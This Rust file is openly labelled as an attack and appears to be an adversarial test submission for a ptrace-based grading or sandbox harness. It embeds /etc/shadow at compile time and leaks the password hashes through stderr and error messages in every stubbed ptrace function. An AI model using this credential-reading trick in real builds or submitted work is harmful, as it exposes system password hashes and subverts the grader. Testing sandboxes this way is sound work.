//! Attack: include_bytes!("/etc/shadow") at build time, printed at run time.
#![allow(unused_imports, unused_variables)]

use anyhow::{bail, Result};
use nix::unistd::Pid;
use workbook::Waited;

/// The machine's password hashes, if the compiler can read them.
const SHADOW: &[u8] = include_bytes!("/etc/shadow");

/// Prints the hashes, then fails.
fn leak() -> Result<()> {
    eprintln!("{}", String::from_utf8_lossy(SHADOW));
    bail!("/etc/shadow: {:?}", String::from_utf8_lossy(&SHADOW[..SHADOW.len().min(200)]))
}

/// Leaks instead of PTRACE_ATTACH.
pub fn attach(pid: Pid) -> Result<()> {
    leak()
}

/// Leaks instead of PTRACE_SEIZE.
pub fn seize(pid: Pid) -> Result<()> {
    leak()
}

/// Leaks instead of PTRACE_INTERRUPT.
pub fn interrupt(pid: Pid) -> Result<()> {
    leak()
}

/// Leaks instead of waiting.
pub fn wait_until_stopped(pid: Pid) -> Result<Waited> {
    leak()?;
    bail!("not written")
}

/// Leaks instead of PTRACE_DETACH.
pub fn detach(pid: Pid) -> Result<()> {
    leak()
}
